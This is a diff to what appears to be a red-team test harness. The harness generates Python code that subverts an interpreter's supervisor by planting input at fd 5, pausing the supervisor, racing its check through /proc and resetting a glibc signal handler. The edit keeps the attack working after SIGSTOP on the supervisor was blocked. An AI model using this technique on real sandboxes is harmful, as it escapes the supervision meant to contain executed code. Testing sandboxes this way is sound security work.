@@ -22,9 +22,11 @@ function interpreterHostPid(printed: string): number {
 
 /**
  * Python lines: put `planted` at fd 5 (where the loop reads its next cell), and start a thread
- * that holds the supervisor (SIGSTOP, same uid) until the main thread sleeps in read(5), puts the
- * code channel (`_code_channel`, a dup the cell kept) back at fd 5, resets glibc's handler on
- * signal 33 (SIGSETXID, never blocked) with a raw rt_sigaction, lets the supervisor go and exits.
+ * that tries to hold the supervisor (SIGSTOP, same uid: refused since s38-red, so the thread goes
+ * on without the hold, racing the supervisor's look instead) until the main thread sleeps in
+ * read(5), puts the code channel (`_code_channel`, a dup the cell kept) back at fd 5, resets
+ * glibc's handler on signal 33 (SIGSETXID, never blocked) with a raw rt_sigaction, lets the
+ * supervisor go and exits.
  * Needs `os`, `signal`, `threading`, `time`, `ctypes` and `_libc` in the cell.
  */
 function putBackCodeChannel(planted: string): string[] {
@@ -32,7 +34,10 @@ function putBackCodeChannel(planted: string): string[] {
     'main_tid = threading.get_native_id()',
     'supervisor = os.getppid()',
     'def restore():',
-    '    os.kill(supervisor, signal.SIGSTOP)',
+    '    try:',
+    '        os.kill(supervisor, signal.SIGSTOP)',
+    '    except PermissionError:',
+    '        pass',
     '    fd = os.open(f"/proc/self/task/{main_tid}/syscall", os.O_RDONLY)',
     '    for _ in range(100000):',
     '        if os.pread(fd, 64, 0).startswith(b"0 0x5 "): break',
